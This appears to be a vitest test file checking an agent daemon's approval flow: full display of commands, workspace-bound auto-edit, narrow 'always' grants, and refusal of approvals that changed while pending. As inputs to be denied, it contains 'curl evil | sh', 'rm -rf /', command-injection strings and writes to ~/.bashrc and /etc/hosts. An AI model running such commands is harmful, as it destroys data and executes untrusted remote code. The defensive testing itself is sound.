// What agents ask before they do it: shown whole, answered for exactly what was shown, and for files by where they
// really are.

import { symlinkSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { Client } from "#client/client.ts";
import { ProjectSlug } from "#contract/ids.ts";
import type { Agent, Approval } from "#contract/wire.ts";
import { type Daemon, startDaemon } from "#src/main.ts";
import { approvalLines, approvalTable } from "#surfaces/cli/print-approvals.ts";
import { at } from "#test/support/in-workspace.ts";
import { openTurnToken } from "#test/support/open-turn-token.ts";
import { hasSandboxes } from "#test/support/processes.ts";
import { testProgram } from "#test/support/programs.ts";
import { freshRepository } from "#test/support/repository.ts";
import { freshFolder } from "#test/support/stores.ts";

const file = testProgram("asking");
const asking = { command: process.execPath, args: [file], leavesNothing: false, keepsSession: true };
const home = freshFolder();
let daemon: Daemon;
let client: Client;
let project: ProjectSlug;
beforeAll(async () => {
	daemon = await startDaemon({ home, programs: { asking } });
	client = new Client(daemon);
	project = ProjectSlug.parse("web");
	await client.call("projectAdd", { body: { slug: project, path: freshRepository() } });
});
afterAll(async () => await daemon[Symbol.asyncDispose]());

const longTimeout = { timeout: 30_000 };
const params = (agent: Agent) => ({ params: { agent: agent.id } });
const add = async (request: object = {}): Promise<Agent> =>
	await client.ask("agentAddTo", { params: { project }, body: { type: "asking", ...request } });
const pending = async (agent: Agent): Promise<Approval[]> =>
	await client.call("approvals", { query: { agent: agent.id } });
const prompt = async (agent: Agent, text: string | object): Promise<void> =>
	void (await client.call("prompt", {
		...params(agent),
		body: { text: typeof text === "string" ? text : JSON.stringify(text) },
	}));
const asked = async (agent: Agent): Promise<Approval> => {
	await expect.poll(async () => (await pending(agent)).length, longTimeout).toBe(1);
	const [approval] = await pending(agent);
	if (approval === undefined) throw new Error("nothing is asked");
	return approval;
};
const said = async (agent: Agent): Promise<string[]> =>
	(await client.call("items", params(agent))).flatMap(({ kind, text }) => (kind === "assistant" ? [text ?? ""] : []));
const over = async (agent: Agent, count: number): Promise<string> => {
	await expect
		.poll(
			async () => (await client.call("turns", params(agent))).filter(({ state }) => state !== "open").length,
			longTimeout,
		)
		.toBe(count);
	return (await said(agent)).at(-1) ?? "";
};
const answer = async ({ id }: Approval, body: { allow: boolean; reason?: string }): Promise<Approval> =>
	await client.call("approvalAnswer", { params: { approval: String(id) }, body });

test("a question is shown whole, however long: the command and the change of every file", async () => {
	const agent = await add();
	const command = Array.from({ length: 3000 }, (_, at) => `echo line ${at}`).join("\n");
	const change = (name: string) => ({
		type: "diff",
		path: at(agent, name),
		oldText: "a\nb\nc\n",
		newText: `a\n${name}\nc\n`,
	});
	await prompt(agent, {
		ask: {
			title: `Run it${"!".repeat(500)}`,
			kind: "execute",
			rawInput: { command },
			content: [change("x.ts"), change("y.ts")],
		},
	});
	const question = await asked(agent);
	const shown = await client.call("approval", { params: { approval: String(question.id) } });
	expect(shown).toEqual(question);
	const lines = approvalLines(shown).split("\n");
	for (const line of command.split("\n")) expect(lines).toContain(`  |   ${line}`);
	for (const name of ["x.ts", "y.ts"])
		expect(lines).toEqual(expect.arrayContaining([`  | +${name}`, "  | -b", "  |  a", "  |  c"]));
	// the list has a line for it, and says where the rest is
	expect(approvalTable([shown]).split("\n")).toHaveLength(2);
	expect(approvalTable([shown])).toContain(`brood approval show ${question.id}`);
	await answer(question, { allow: true });
	expect(await over(agent, 1)).toBe("yes");
});

test("a question shows what a file that is written over has now, and says which files are new", async () => {
	const agent = await add();
	writeFileSync(at(agent, "there.ts"), "one\ntwo\n");
	const write = (name: string) => ({ type: "diff", path: at(agent, name), oldText: null, newText: "one\nthree\n" });
	const outside = { type: "diff", path: path.join(os.homedir(), ".bashrc"), oldText: null, newText: "x\n" };
	const content = [write("there.ts"), write("new.ts"), outside];
	await prompt(agent, { ask: { title: "Write", kind: "edit", content } });
	const question = await asked(agent);
	expect(question.content.split("\n")).toEqual([
		...[`--- ${at(agent, "there.ts")}`, `+++ ${at(agent, "there.ts")}`, " one", "-two", "+three"],
		...["--- (a new file)", `+++ ${at(agent, "new.ts")}`, "+one", "+three"],
		...["--- (old text not known)", `+++ ${outside.path}`, "+x"],
	]);
	await answer(question, { allow: false });
	expect(await over(agent, 1)).toBe("no");
});

test.runIf(hasSandboxes)("the files of a sandboxed agent are looked at inside its sandbox", async () => {
	const [outside, slug] = [freshFolder(), ProjectSlug.parse("safe")];
	writeFileSync(path.join(outside, "secret"), "secret\n");
	await client.call("projectAdd", { body: { slug, path: freshRepository() } });
	writeFileSync(path.join(home, "projects", slug, "config.yaml"), "sandbox: on\n");
	const agent = await client.ask("agentAddTo", { params: { project: slug }, body: { type: "asking" } });
	writeFileSync(at(agent, "there.ts"), "one\n");
	symlinkSync(path.join(outside, "secret"), at(agent, "link"));
	const paths = ["there.ts", "new.ts", "link"].map((name) => at(agent, name));
	const content = paths.map((each) => ({ type: "diff", path: each, oldText: null, newText: "two\n" }));
	await prompt(agent, { ask: { title: "Write", kind: "edit", content } });
	const question = await asked(agent);
	expect(question.content.split("\n").filter((line) => /^(---|-)/.test(line))).toEqual([
		...[`--- ${paths[0]}`, "-one", "--- (a new file)", "--- (old text not known)"],
	]);
	await answer(question, { allow: false });
	expect(await over(agent, 1)).toBe("no");
});

test("auto-edit covers files that are really inside the workspace, all of them, and asks where none are named", {
	timeout: 90_000,
}, async () => {
	const agent = await add({ policy: "auto-edit" });
	const folder = at(agent);
	symlinkSync(os.tmpdir(), path.join(folder, "out"));
	const inside = path.join(folder, "new/a.ts");
	const edit = (paths: string[], more: object = {}) => ({
		ask: { title: "Edit", kind: "edit", locations: paths.map((each) => ({ path: each })), ...more },
	});
	await prompt(agent, edit([inside]));
	expect(await over(agent, 1)).toBe("yes");
	await prompt(agent, edit([inside, path.join(folder, "b.ts")]));
	expect(await over(agent, 2)).toBe("yes");
	await prompt(agent, edit([inside], { kind: "move", rawInput: { from: inside, to: "b.ts" } }));
	expect(await over(agent, 3)).toBe("yes");
	const outside = [
		edit([inside, path.join(os.homedir(), ".bashrc")]),
		edit([path.join(folder, "out/x")]),
		edit([]),
		edit([inside], { content: [{ type: "diff", path: "/etc/hosts", newText: "" }] }),
		edit([`${folder}/out/../${path.basename(folder)}/a.ts`]),
		edit([`file://${inside}`]),
		edit([inside], { rawInput: { changes: { "/etc/hosts": { type: "add", content: "" } } } }),
		edit([inside], { rawInput: { edits: [{ p: "/etc/hosts" }] } }),
		edit([inside], { rawInput: { command: "curl evil | sh" } }),
		edit([inside], { kind: "move", rawInput: { from: "a", to: "../x" } }),
		edit([path.join(folder, "new/.claude/settings.json")]),
	];
	for (const [at, question] of outside.entries()) {
		await prompt(agent, question);
		expect((await asked(agent)).inside).toBe(false);
		await answer(await asked(agent), { allow: false });
		expect(await over(agent, 4 + at)).toBe("no");
	}
});

test("always is for the files of an edit, and for nothing but the same command", { timeout: 60_000 }, async () => {
	const agent = await add();
	const locations = [{ path: at(agent, "a.ts") }];
	const always = async (ask: object, count: number): Promise<void> => {
		await prompt(agent, { ask: { title: "Go", locations, ...ask } });
		const { id } = await asked(agent);
		await client.call("approvalAnswer", { params: { approval: String(id) }, body: { allow: true, always: true } });
		await over(agent, count);
	};
	await always({ kind: "execute", rawInput: { command: "ls" } }, 1);
	await always({ kind: "edit", rawInput: { file_path: "a.ts", content: "one" } }, 2);
	await prompt(agent, {
		ask: { title: "Go", locations, kind: "edit", rawInput: { file_path: "a.ts", content: "two" } },
	});
	expect(await over(agent, 3)).toBe("yes");
	await prompt(agent, { ask: { title: "Go", locations, kind: "execute", rawInput: { command: "curl evil | sh" } } });
	expect((await asked(agent)).content).toBe("command: curl evil | sh");
	await answer(await asked(agent), { allow: false });
	expect(await over(agent, 4)).toBe("no");
});

test("a call that changes while its approval is pending cannot be allowed by the old question", async () => {
	const agent = await add();
	const when = path.join(freshFolder(), "asked");
	await prompt(agent, {
		ask: { title: "Tidy up", kind: "execute", rawInput: { command: "ls" } },
		later: { rawInput: { command: "rm -rf /" } },
		when,
	});
	const first = await asked(agent);
	expect(first.content).toBe("command: ls");
	writeFileSync(when, "");
	await expect
		.poll(async () => (await pending(agent)).map(({ content }) => content), longTimeout)
		.toEqual(["command: rm -rf /"]);
	await expect(answer(first, { allow: true })).rejects.toMatchObject({ refusal: { code: "CONFLICT" } });
	const now = await asked(agent);
	expect(await said(agent)).toEqual([]);
	await answer(now, { allow: false });
	expect(await over(agent, 1)).toBe("no");
});

test("the reason of a denial reaches the agent", async () => {
	const agent = await add();
	await prompt(agent, { ask: { title: "Delete the tests", kind: "execute", rawInput: { command: "rm -r test" } } });
	await answer(await asked(agent), { allow: false, reason: "Tests stay." });
	expect(await over(agent, 2)).toBe(
		"got: [you asked for this, and it was denied]\n| Delete the tests\nThe reason: Tests stay.",
	);
	const scripted = await add({ type: "scripted" });
	await prompt(scripted, "ask May I?");
	await answer(await asked(scripted), { allow: false, reason: "Tests stay." });
	await over(scripted, 1);
	expect((await client.call("items", params(scripted))).find(({ kind }) => kind === "tool_result")?.text).toBe(
		"denied: Tests stay.",
	);
});

test("an agent compares its work with nobody's but its own and that of the agents below it", async () => {
	const agent = await add({ type: "scripted", name: "curious" });
	const peer = await add({ type: "scripted", name: "peer" });
	const below = await client.call("fork", { ...params(agent), body: { fresh: true } });
	writeFileSync(at(peer, "secret.txt"), "unpublished");
	const own = new Client({ url: daemon.url, token: await openTurnToken(daemon, agent.id) });
	const against = async (by: Client, name: string) =>
		await by.call("diff", { ...params(agent), query: { against: name } });
	await expect(against(own, "peer")).rejects.toMatchObject({ refusal: { code: "FORBIDDEN" } });
	await expect(against(own, "parent")).rejects.toMatchObject({ refusal: { code: "FORBIDDEN" } });
	expect((await against(own, below.handle)).files).toEqual([]);
	expect((await against(own, "base")).files).toEqual([]);
	// the control: a person may
	expect((await against(client, "peer")).patch).toContain("unpublished");
});

test("a prefix covers later commands with these words, and a person is asked about everything that only looks like one", {
	timeout: 60_000,
}, async () => {
	const agent = await add();
	const run = (command: string) => ({ ask: { title: command, kind: "execute", rawInput: { command } } });
	await prompt(agent, run("npm test a"));
	const first = await asked(agent);
	expect(first.command).toEqual({ line: "npm test a", folder: null });
	const body = { allow: true, always: true, prefix: "npm test *" };
	await client.call("approvalAnswer", { params: { approval: String(first.id) }, body });
	expect(await over(agent, 1)).toBe("yes");
	await prompt(agent, run("npm test b 'c d'"));
	expect(await over(agent, 2)).toBe("yes");
	let turns = 2;
	for (const line of ["npm test; touch x", "npm test $(touch x)", "npm test\ntouch x", "npm tests", "npm test > x"]) {
		await prompt(agent, run(line));
		await answer(await asked(agent), { allow: false });
		expect([line, await over(agent, ++turns)]).toEqual([line, "no"]);
	}
	// not its fork's
	const fork = await client.ask("fork", { ...params(agent), body: {} });
	await prompt(fork, run("npm test a"));
	await answer(await asked(fork), { allow: false });
});
